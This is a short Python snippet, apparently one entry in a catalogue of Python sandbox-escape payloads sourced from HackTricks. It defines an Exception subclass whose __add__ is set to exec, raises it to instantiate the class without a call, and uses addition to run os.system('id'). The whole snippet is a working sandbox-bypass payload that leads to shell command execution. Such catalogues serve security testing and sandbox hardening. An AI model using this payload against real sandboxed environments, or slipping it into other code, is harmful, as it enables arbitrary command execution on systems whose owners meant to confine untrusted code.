# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Creating objects with exceptions: class Klecko(Exception): __add__ = exec)
# Family: metaclass
# What: raising a class instantiates it without a call; __add__ = exec
class Klecko(Exception):
    __add__ = exec

try:
    raise Klecko
except Klecko as k:
    k + "import os; os.system('id')"
